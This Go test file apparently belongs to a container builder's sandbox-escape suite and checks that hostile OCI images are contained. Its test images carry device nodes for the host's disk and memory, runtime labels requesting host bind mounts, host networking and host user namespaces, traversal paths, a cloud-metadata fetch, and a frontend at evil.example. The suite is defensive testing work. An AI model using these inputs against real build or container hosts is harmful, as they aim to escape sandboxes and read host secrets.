package escape

import (
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	ocispecs "github.com/opencontainers/image-spec/specs-go/v1"
	"github.com/stretchr/testify/require"
	"golang.org/x/sys/unix"

	"github.com/kiln-build/kiln/test/escape/hostile"
)

var _ = register(

	entry{
		ID: "archive/image-devices", Severity: escapesToNode,
		Threat: "A layer holds device files of the node's disks, memory and log, for a step to open.",
		Test:   imageDevices, Off: imageDevicesOff, Without: "the sandbox's file systems, which have no devices of an image's (in their place: the node)",
	},
	entry{
		ID: "archive/image-labels", Severity: escapesToNode,
		Threat: "Labels and annotations of an image are those that gVisor's, containerd's or CRI-O's runtimes take for orders, such as mounts of the node's directories.",
		Test:   imageLabels,
	},
	entry{
		ID: "archive/image-config", Severity: takesNodeDown, Once: "the front end reads it, before any step",
		Threat: "An image's environment, command, directories, volumes and triggers hold NUL bytes, relative paths, or ONBUILD of forbidden and endless instructions.",
		Test:   imageConfig,
	},
)

// program is a layer with busybox, and what else is given.
func program(t *testing.T, more ...hostile.Entry) []byte {
	t.Helper()
	data, err := os.ReadFile("/bin/busybox")
	require.NoError(t, err, "Debian's busybox-static is missing; run `make deps`")
	entries := []hostile.Entry{{Type: hostile.Directory, Name: "bin", Mode: 0o755}, {Type: hostile.File, Name: "bin/busybox", Mode: 0o755, Body: string(data)}}
	for _, name := range []string{"sh", "cat", "id", "dd", "ls", "truncate", "head"} {
		entries = append(entries, hostile.Entry{Type: hostile.Symlink, Name: "bin/" + name, Target: "busybox", Mode: 0o777})
	}
	return hostile.Tar(hostile.Plain, append(entries, more...)...)
}

// deviceFiles are devices that every node has: its log, and what is not there is no
// loss.
func deviceFiles(t *testing.T) []hostile.Entry {
	t.Helper()
	devices := []hostile.Entry{{Type: hostile.Char, Name: "devices/log", Major: 1, Minor: 11, Mode: 0o666}, {Type: hostile.Char, Name: "devices/memory", Major: 1, Minor: 1, Mode: 0o666}}
	var st unix.Stat_t
	require.NoError(t, unix.Stat("/", &st))
	disk := hostile.Entry{Type: hostile.Block, Name: "devices/disk", Major: int64(unix.Major(st.Dev)), Minor: int64(unix.Minor(st.Dev)), Mode: 0o666}
	fuse := hostile.Entry{Type: hostile.Char, Name: "devices/fuse", Major: 10, Minor: 229, Mode: 0o666}
	loop := hostile.Entry{Type: hostile.Block, Name: "devices/loop", Major: 7, Minor: 0, Mode: 0o666}
	return append(devices, disk, fuse, loop)
}

func imageDevices(t *testing.T, e *env) {
	im := hostile.NewImage([][]byte{program(t, deviceFiles(t)...)}, func(c *ocispecs.Image, _ *ocispecs.Manifest) { c.Config.Env = []string{"PATH=/bin"} })
	r := e.fromImage(t, im, "FROM img\nRUN for d in log memory disk fuse loop; do if dd if=/devices/$d of=/got-$d bs=4096 count=1 2>&1; then echo opened $d; fi; if : 2>&1 >> /devices/$d; then echo wrote $d; fi; done; exit 0\n")
	require.NotContains(t, r.Log, "opened ", r.Log)
	require.NotContains(t, r.Log, "wrote ", r.Log)
	e.CheckNode(t, r)
}

// imageDevicesOff opens the same device files on the node.
func imageDevicesOff(t *testing.T, _ *env) bool {
	for _, d := range deviceFiles(t) {
		path := filepath.Join(t.TempDir(), filepath.Base(d.Name))
		mode := uint32(unix.S_IFCHR)
		if d.Type == hostile.Block {
			mode = unix.S_IFBLK
		}
		require.NoError(t, unix.Mknod(path, mode|0o666, int(unix.Mkdev(uint32(d.Major), uint32(d.Minor)))))
		fd, err := unix.Open(path, unix.O_RDONLY|unix.O_NONBLOCK|unix.O_CLOEXEC, 0)
		if err == nil {
			unix.Close(fd)
			return true
		}
	}
	return false
}

func imageLabels(t *testing.T, e *env) {
	private := filepath.Dir(e.CanaryFile)
	labels := map[string]string{
		"dev.gvisor.spec.mount.x.share": "shared", "dev.gvisor.spec.mount.x.source": private, "dev.gvisor.spec.mount.x.type": "bind", "dev.gvisor.spec.mount.x.options": "rw",
		"dev.gvisor.spec.rootfs.source": "/", "dev.gvisor.spec.rootfs.type": "bind", "dev.gvisor.spec.rootfs.overlay": "none", "dev.gvisor.flag.network": "host", "dev.gvisor.flag.host-uds": "all", "dev.gvisor.flag.directfs": "true",
		"dev.gvisor.internal.nvproxy": "true", "dev.gvisor.net-disconnect-ok": "true", "dev.gvisor.tar.rootfs.upper": e.CanaryFile,
		"io.kubernetes.cri.container-type": "sandbox", "io.kubernetes.cri.sandbox-id": "../../x", "io.kubernetes.cri-o.Devices": "/dev/vda:/dev/vda:rwm", "io.kubernetes.cri-o.userns-mode": "host", "io.kubernetes.cri-o.TrySkipVolumeSELinuxLabel": "true",
		"run.oci.hooks.stdout": "/tmp/kiln-marker", "run.oci.keep_original_groups": "1", "org.criu.config": "/etc/passwd", "containerd.io/restart.status": "running", "containerd.io/gc.root": "x", "containerd.io/distribution.source.x": "y",
		"containerd.io/snapshot.ref": "../../x", "containerd.io/gc.ref.snapshot.overlayfs": "x", "cdi.k8s.io/x": "vendor.example/x=all", "io.containerd.runc.v2.group": "x", "nri.containerd.io/x": "y", "kiln.build/content.b/userns": "true",
	}
	guard := newGuard(t, e, []hostile.Goal{{Dir: private, File: filepath.Base(e.CanaryFile)}})
	im := hostile.NewImage([][]byte{program(t)}, func(c *ocispecs.Image, m *ocispecs.Manifest) {
		c.Config.Labels, c.Config.Env = labels, []string{"PATH=/bin", "LD_PRELOAD=/x", "GVISOR_PLATFORM=ptrace"}
		m.Annotations, m.Layers[0].Annotations = labels, labels
	})
	r := e.fromImage(t, im, "FROM img\nRUN ls -la / /mnt /x "+private+"; cat "+e.CanaryFile+" /x/canary; cat /proc/mounts; exit 0\n")
	require.NoError(t, r.Err)
	require.NotContains(t, r.Log, private+" type")
	guard.finish(t)
	e.CheckNode(t, r)
}

func imageConfig(t *testing.T, e *env) {
	layer := program(t)
	many := make([]string, 20_000)
	for i := range many {
		many[i] = fmt.Sprintf("V%d=%d", i, i)
	}
	onbuild := func(lines ...string) string {
		return `{"architecture":"amd64","os":"linux","config":{"Env":["PATH=/bin"],"OnBuild":["` + strings.Join(lines, `","`) + `"]},"rootfs":{"type":"layers","diff_ids":["DIFF"]}}`
	}
	config := func(fields string) string {
		return `{"architecture":"amd64","os":"linux","config":{` + fields + `},"rootfs":{"type":"layers","diff_ids":["DIFF"]}}`
	}
	for name, raw := range map[string]string{
		"NUL in environment": config(`"Env":["PATH=/bin","A=\u0000b"]`), "no equals sign": config(`"Env":["PATH=/bin","A","=b",""]`), "NUL in directory": config(`"WorkingDir":"/a\u0000b","Env":["PATH=/bin"]`),
		"directory outside": config(`"WorkingDir":"../../../../../../..` + filepath.Dir(e.CanaryFile) + `"`), "NUL in command": config(`"Cmd":["\u0000"],"Entrypoint":["\u0000"],"Shell":["\u0000"]`),
		"volumes": config(`"Volumes":{"/":{},"../..":{},"/proc":{},"\u0000":{}},"ExposedPorts":{"x":{},"\u0000":{}}`), "shell": config(`"Shell":["/bin/sh"],"Env":["PATH=/bin","IFS=/","ENV=` + e.CanaryFile + `"]`),
		"onbuild in onbuild": onbuild("ONBUILD RUN true"), "onbuild from": onbuild("FROM scratch"), "onbuild insecure": onbuild("RUN --security=insecure true"), "onbuild network": onbuild("RUN --network=host true"),
		"onbuild bind": onbuild("RUN --mount=type=bind,source=/,target=/x,from=" + e.CanaryFile + " cat /x"), "onbuild copy": onbuild("COPY ../../../.." + e.CanaryFile + " /"), "onbuild add": onbuild("ADD http://169.254.169.254/ /"),
		"onbuild lines": onbuild(strings.TrimSuffix(strings.Repeat(`RUN true","`, 40), `","`)), "onbuild NUL": onbuild(`RUN \u0000`), "onbuild syntax": onbuild("# syntax=evil.example/x", "ARG A=$(cat /x)"),
		"much environment": config(`"Env":["` + strings.Join(many, `","`) + `"]`), "deep": strings.Repeat(`{"config":`, 100_000), "not JSON": "\x00", "other types": `{"architecture":7,"config":[],"rootfs":"x"}`, "duplicate": config(`"User":"0","User":"33"`),
	} {
		im := hostile.Image{Blobs: hostile.NewImage([][]byte{layer}, nil).Blobs}
		l := im.Add(ocispecs.MediaTypeImageLayer, layer)
		manifest := &ocispecs.Manifest{MediaType: ocispecs.MediaTypeImageManifest, Layers: []ocispecs.Descriptor{l}}
		manifest.SchemaVersion = 2
		manifest.Config = im.Add(ocispecs.MediaTypeImageConfig, []byte(strings.ReplaceAll(raw, "DIFF", l.Digest.String())))
		im.Finish(nil, manifest)
		r := e.fromImage(t, im, "FROM img\nRUN pwd; ls -la; cat "+e.CanaryFile+" canary; exit 0\n")
		e.CheckNode(t, r)
		require.NotContains(t, fmt.Sprint(r.Err), "panic", name)
		require.NotContains(t, fmt.Sprint(r.Err), "deadline", name)
		if slices.Contains([]string{"onbuild from", "onbuild insecure", "onbuild network", "onbuild add"}, name) {
			require.Error(t, r.Err, name)
		}
		t.Logf("%s: %.160v", name, r.Err)
	}
	e.healthy(t)
}
